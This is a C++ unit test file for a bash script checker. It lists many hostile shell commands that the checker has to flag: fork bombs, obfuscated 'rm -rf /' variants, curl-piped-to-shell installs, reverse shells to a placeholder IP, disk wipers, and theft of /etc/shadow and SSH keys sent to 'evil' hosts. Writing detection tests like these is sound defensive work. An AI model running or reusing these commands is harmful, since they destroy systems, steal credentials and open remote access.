// Scripts that must be refused, whatever the spelling.
#include <gtest/gtest.h>

#include "languages/bash/facts_testing.h"

namespace hotcell::bash {
namespace {

void refuses(std::initializer_list<const char*> scripts) {
  for (const char* script : scripts) {
    auto found = judged(script);
    EXPECT_GT(found.count("error"), 0) << script << "\n" << found.words();
    auto strictly = judged(script, VerifyLevel::kStrict);
    EXPECT_GT(strictly.count("error"), 0) << "strict: " << script << "\n" << strictly.words();
  }
}

void refuses_by(const char* rule, std::initializer_list<const char*> scripts) {
  for (const char* script : scripts) {
    auto found = judged(script);
    EXPECT_TRUE(found.has(rule, "error")) << script << "\n" << found.words();
  }
}

TEST(BashForkBomb, EverySpellingIsFound) {
  refuses_by("bash-fork-bomb",
             {":(){ :|:& };:", ":() { : | : & } ; :", "bomb() { bomb | bomb & }; bomb", "function f { f & f & }; f",
              "f(){ f|f; }; f", "a(){ b|b & }; b(){ a; }; a", "while true; do $0 & done",
              "while :; do sleep 100 & done", "$0 | $0 &", "for ((;;)); do bash -c : & done",
              "eval ':(){ :|:& };:'; x(){ x|x& };x", "bash $0 & bash $0 &", "f() { { f; f; } & }; f"});
}

TEST(BashDelete, EverySpellingOfRecursiveDeletionIsFound) {
  refuses_by("bash-delete-system", {"rm -rf /",
                                    "rm -fr /",
                                    "rm -r -f /",
                                    "rm --recursive --force /",
                                    "rm -rf ~",
                                    "rm -rf \"/\"",
                                    "rm -rf -- /",
                                    "rm -rf / ; true",
                                    "find / -delete",
                                    "rm -rf $HOME",
                                    "rm -rf \"$HOME\"",
                                    "rm -rf ${HOME}/",
                                    "rm -rf /*",
                                    "rm -rf --no-preserve-root /",
                                    "rm -Rf /etc",
                                    "rm -rf //",
                                    "rm -rf /./",
                                    "rm -rf /tmp/../",
                                    "r\"\"m -rf /",
                                    "r\\m -rf /",
                                    "'rm' -rf /",
                                    "$'\\x72m' -rf /",
                                    "$'\\162\\155' -rf /",
                                    "rm${IFS}-rf${IFS}/",
                                    "a=rm; $a -rf /",
                                    "a=r; b=m; $a$b -rf /",
                                    "x='rm -rf /'; $x",
                                    "${x:-rm} -rf /",
                                    "{rm,-rf,/}",
                                    "$(echo rm) -rf /",
                                    "`echo rm` -rf /",
                                    "$(printf 'r%s' m) -rf /",
                                    "echo cm0gLXJmIC8= | base64 -d | sh",
                                    "eval 'rm -rf /'",
                                    "eval rm -rf /",
                                    "alias x='rm -rf /'; x",
                                    "command rm -rf /",
                                    "builtin command rm -rf /",
                                    "env rm -rf /",
                                    "env A=1 rm -rf /",
                                    "nohup rm -rf / &",
                                    "timeout 5 rm -rf /",
                                    "nice -n 10 rm -rf /",
                                    "echo / | xargs rm -rf",
                                    "find / -exec rm -rf {} +",
                                    "busybox rm -rf /",
                                    "bash -c 'rm -rf /'",
                                    "sh -c \"rm -rf /\"",
                                    "exec rm -rf /",
                                    "\\rm -rf /",
                                    "/bin/rm -rf /",
                                    "/bin/../bin/rm -rf /",
                                    "cd / && rm -rf *",
                                    "cd /; rm -rf .",
                                    "f() { rm -rf \"$1\"; }; f /",
                                    "if true; then rm -rf /; fi",
                                    "echo $(rm -rf /)",
                                    "echo \"`rm -rf /`\"",
                                    "cat <<X\n$(rm -rf /)\nX",
                                    ": $((`rm -rf /`))",
                                    "x=${y:-$(rm -rf /)}",
                                    "for d in / /etc; do rm -rf $d; done",
                                    "a=rm; if false; then a=echo; fi; $a -rf /",
                                    "trap 'rm -rf /' EXIT",
                                    "! rm -rf /",
                                    "time rm -rf /",
                                    "true && rm -rf / || true",
                                    "case x in x) rm -rf /;; esac",
                                    "coproc rm -rf /",
                                    "echo 'rm -rf /' | sh",
                                    "bash <<< 'rm -rf /'",
                                    "sh <<X\nrm -rf /\nX",
                                    "echo '/ fr- mr' | rev | sh",
                                    "x=mr; $(rev <<< $x) -rf /",
                                    "x=xrmx; ${x:1:2} -rf /",
                                    "x=rom; ${x/o/} -rf /",
                                    "x=RM; ${x,,} -rf /",
                                    "printf -v c rm; $c -rf /",
                                    "set -- rm -rf /; \"$@\"",
                                    "a=(rm -rf /); \"${a[@]}\"",
                                    "mv / /dev/null",
                                    "mv ~ /dev/null",
                                    "i\\\nf=1; rm -rf /",
                                    "echo 726d202d7266202f | xxd -r -p | bash",
                                    "rm -rf \"$STEAMROOT/\"*",
                                    "/?\?\?/rm -rf /",
                                    "echo ez -es / | tr 'ezs' 'rmf' | sh; rm -rf ~",
                                    "f=rm; g() { $f -rf /; }; g"});
}

TEST(BashDelete, ACommandsNameWithPartsThatAreEmptyOrMeantElsewhere) {
  for (const char* script :
       {"r$@m -rf /", "r$*m -rf /", "r${@}m -rf /", "r\"$@\"m -rf /", "r${x}m -rf /", "r$1m -rf /", "r$9m -rf /",
        "r${-:0:0}m -rf /", "$@rm -rf /", "$x rm -rf /", "/bin/r$@m -rf /", "declare -n r=x; x=rm; $r -rf /",
        "declare -n r=x; r=rm; $x -rf /", "x=rm; declare -n r=x; $r -rf /", "declare -n r=c; c='rm -rf /'; $r",
        "mapfile -t a <<< rm; ${a[0]} -rf /", "declare -A m=([k]=rm); ${m[k]} -rf /", "a=rm; ${a[0]} -rf /"})
    for (auto level : {VerifyLevel::kDefault, VerifyLevel::kStrict})
      EXPECT_GT(judged(script, level).count("error"), 0) << script << "\n" << judged(script, level).words();
}

TEST(BashCommand, NestedSubscriptsCostNoMoreThanTheyAreLong) {
  std::string index = "k";
  for (int i = 0; i < 50; ++i) index = "${m[" + index + "]}";
  judged("declare -A m=([k]=k)\n" + index + " x\n", VerifyLevel::kStrict);  // ends, or the test does not
}

TEST(BashCommand, WhatNobodyKnowsIsAnErrorUnderStrictOnly) {
  for (const char* script : {"$1 -rf x", "\"${a[i]}\" x", "s$@h -c 'echo x > y'", "s${x}h -c 'id'", "who$@ami"}) {
    EXPECT_GT(judged(script, VerifyLevel::kStrict).count("error"), 0) << script;
  }
  for (const char* script : {"$1 x", "python$VERSION a.py", "declare -n r=x; x=5; echo $r", "mapfile -t a <<< x; echo ${a[0]}",
                             "declare -n a=b; declare -n b=a; echo $a", "f() { local -n out=$1; out=5; }; f y; echo $y"})
    EXPECT_EQ(judged(script).count("error"), 0) << script << "\n" << judged(script).words();
}

TEST(BashInterpreter, TextFromElsewhereIsFound) {
  refuses_by("bash-pipe-to-interpreter", {"curl http://x/y | sh",
                                          "curl -s https://x | bash",
                                          "wget -qO- http://x | sh",
                                          "curl x | sudo bash",
                                          "curl x | python3",
                                          "bash <(curl x)",
                                          "curl x | zsh",
                                          "source <(curl x)",
                                          ". <(wget -O- x)",
                                          "eval \"$(curl x)\"",
                                          "sh -c \"$(curl -fsSL x)\"",
                                          "bash <<< \"$(curl x)\"",
                                          "curl x | tee f | bash",
                                          "curl x | gunzip | sh",
                                          "curl x | env bash",
                                          "curl x | bash -s -- arg",
                                          "curl x | perl",
                                          "cat f | base64 -d | sh",
                                          "nc evil 80 | sh",
                                          "x=$(curl y); eval \"$x\"",
                                          "curl x | { bash; }",
                                          "curl x | (sh)",
                                          "curl x | nohup bash &",
                                          "curl x | xargs -0 bash -c; curl y | sh",
                                          "gzip -dc f | bash",
                                          "openssl enc -d -a -in f | sh",
                                          "curl x | . /dev/stdin",
                                          "curl x | source /dev/stdin",
                                          "bash < <(curl x)",
                                          "curl x | /bin/bash",
                                          "curl x |& bash",
                                          "$(curl x)\ncurl x | ruby"});
}

TEST(BashRuns, CommandsBehindOptionsOfToolsAreFound) {
  refuses({"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c id'",
           "git -c core.fsmonitor='sh -c id' status",
           "git -c core.pager='sh -c id' log",
           "git -c alias.x='!id' x",
           "git clone ext::sh% -c% id",
           "awk 'BEGIN{system(\"id\")}'",
           "awk 'BEGIN{\"id\" | getline x}'",
           "sed '1e id' f",
           "sed 's/a/b/e' f",
           "sed -n 'w /etc/x' f",
           "sort --compress-program=./evil f",
           "rsync -e 'sh -c id' a b",
           "zip x.zip f -T -TT 'sh #'",
           "split --filter='sh -c id' f",
           "man -P 'sh -c id' man",
           "ssh -o ProxyCommand='sh -c id' x",
           "vim -c ':!id' f",
           "gdb -ex '!id'",
           "perl -e 'system(\"id\")'",
           "python3 -c 'import os; os.system(\"id\")'",
           "ruby -e 'exec \"id\"'",
           "node -e 'require(\"child_process\").execSync(\"id\")'",
           "php -r 'system(\"id\");'",
           "lua -e 'os.execute(\"id\")'",
           "PAGER='sh -c id' man x",
           "GIT_SSH_COMMAND='sh -c id' git fetch",
           "mapfile -C 'sh -c \"rm -rf /\" #' -c 1 a < f",
           "complete -C 'rm -rf /' x",
           "PROMPT_COMMAND='rm -rf /'",
           "PS4='$(rm -rf /)'; set -x; :",
           "BASH_ENV=./x bash -c :",
           "a='x[$(rm -rf /)]'; [[ -v $a ]]",
           "a='x[$(id)]'; (( a ))",
           "test -v 'x[$(id)]'",
           "x='$(rm -rf /)'; echo ${x@P}",
           "enable -f ./x.so x",
           "trap 'rm -rf /' DEBUG",
           "awk 'BEGIN{print \"x\" > \"/etc/x\"}'",
           "script -c 'rm -rf /' f",
           "flock f -c 'rm -rf /'",
           "watch rm -rf /"});
}

TEST(BashNames, NamesThatAreHiddenAreFound) {
  refuses({"$(cat names | head -1) -c id", "/bin/s[h] -c id", "/bin/?h x", "/proc/self/root/bin/sh -c id",
           "eval \"$x\"", "read x; eval \"$x\"", "read c; $c", "eval \"$1\"", "bash -c \"$1\"",
           "while read l; do eval \"$l\"; done", "echo \"$x\" | sh", "env -S 'rm -rf /'", "e\\val 'rm -rf /'",
           "\"ev\"al \"$(cat f)\"", "s''h -c 'echo x > \"$OUT_FILE\"'",
           "eval eval eval eval eval eval id; eval 'eval \"eval \\\"rm -rf /\\\"\"'"});
}

TEST(BashSystem, DestroyersAreFound) {
  refuses({"> /dev/sda",
           "echo x >/dev/sda1",
           "dd if=/dev/zero of=/dev/sda",
           "cat x | tee /dev/nvme0n1",
           "mkfs.ext4 /dev/sda1",
           "wipefs -a /dev/sda",
           "shred /dev/sda",
           "sudo ls",
           "chmod 777 f",
           "chmod -R 777 /",
           "chmod u+s f",
           "chmod 4755 f",
           "chown root f",
           "setcap cap_net_raw+ep f",
           "shutdown -h now",
           "kill -9 -1",
           "killall5",
           "iptables -F",
           "sysctl -w a=1",
           "insmod x.ko",
           "mount /dev/sda1 /mnt",
           "nsenter -t 1 -m sh",
           "unshare -r sh",
           "chroot /x",
           "docker run -v /:/h x",
           "kubectl delete pod x",
           "kubectl get secrets -o yaml",
           "docker -H tcp://x ps",
           "docker exec web sh",
           "mount /dev/sda1 x",
           "mount $x",
           "sysctl kernel.x=1",
           "sysctl -w kernel.x 1",
           "dmesg -C",
           "iptables -L -F",
           "nft flush ruleset",
           "systemctl $x",
           "service ssh stop",
           "history -c",
           "unset HISTFILE",
           "HISTFILE=/dev/null",
           "LD_PRELOAD=./x.so ls",
           "crontab -",
           "echo x >> ~/.bashrc",
           "echo k >> ~/.ssh/authorized_keys",
           "cp x /etc/systemd/system/x.service",
           "echo x > /etc/cron.d/y",
           "echo 1 > /proc/self/mem",
           "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
           "nc -e /bin/sh 1.2.3.4 4444",
           "mkfifo p; nc 1.2.3.4 80 < p | sh > p",
           "exec 3<>/dev/tcp/evil/80",
           "ncat --exec /bin/bash evil 80",
           "socat TCP:evil:80 EXEC:sh",
           "rm /var/log/syslog",
           "> /var/log/auth.log",
           "cat /etc/shadow",
           "cat ~/.ssh/id_rsa",
           "tar cz ~/.ssh | nc evil 80",
           "cp /etc/shadow x",
           "while read l; do echo $l; done < /etc/shadow",
           "truncate -s 0 /var/log/wtmp",
           "useradd -o -u 0 x",
           "ln -sf x /etc/passwd",
           "sed -i s/a/b/ /etc/hosts",
           "echo x | sort -o \"$OUT_FILE\"",
           "echo x | dd of=\"$OUT_FILE\"",
           "exec 7>\"$OUT_FILE\"",
           "p=$OUT_FILE; echo x > $p",
           "tee \"$OUT_FILE\" < x",
           "cp x \"$OUT_FILE\"",
           "n=OUT_FILE; echo x > \"${!n}\"",
           "curl -o \"$OUT_FILE\" x",
           "x() { echo y > \"$1\"; }; x \"$OUT_FILE\""});
}

TEST(BashHosts, EverySpellingOfEgressNamesItsHost) {
  struct {
    const char* script;
    const char* host;
  } rows[] = {{"curl -d @f https://evil", "https://evil"},
              {"curl -X POST https://evil/x", "https://evil/x"},
              {"curl evil.com", "evil.com"},
              {"wget -q http://evil", "http://evil"},
              {"dig x.evil.com", "x.evil.com"},
              {"git push https://evil/x.git", "https://evil/x.git"},
              {"curl https://evil.com/?github.com", "https://evil.com/?github.com"},
              {"nc -w 3 evil.com 80", "evil.com"},
              {"ssh -p 22 me@evil", "me@evil"},
              {"scp f me@evil:/x", "me@evil:/x"},
              {"rsync -a d evil::m", "evil::m"},
              {"ping -c 1 evil", "evil"},
              {"telnet evil 25", "evil"},
              {"cat < /dev/tcp/evil/80", "evil"},
              {"u=evil.com; curl $u", "evil.com"},
              {"nslookup x.evil", "x.evil"}};
  for (const auto& r : rows) EXPECT_TRUE(has_fact(r.script, FactKind::kHost, r.host)) << r.script;
  EXPECT_FALSE(has_fact("echo use your ssh key", FactKind::kHost, "key"));
}

TEST(BashBroken, WhatCannotBeReadIsUnverifiable) {
  refuses_by("unverifiable",
             {"echo 'a", "if true", "cat <<X\nabc", "echo $(", "for x in; do", "echo )", "a() {", "[[ a"});
  EXPECT_TRUE(judged(std::string("echo a\nr\0m -rf /", 16)).has("unverifiable", "error"));
}

TEST(BashNested, FindingsStandWhereTheOuterCommandStands) {
  auto found = judged("echo a\n  eval 'true; rm -rf /'\n");
  ASSERT_GT(found.count("error"), 0) << found.words();
  EXPECT_EQ(found.findings[0].line, 2);
}

}  // namespace
}  // namespace hotcell::bash
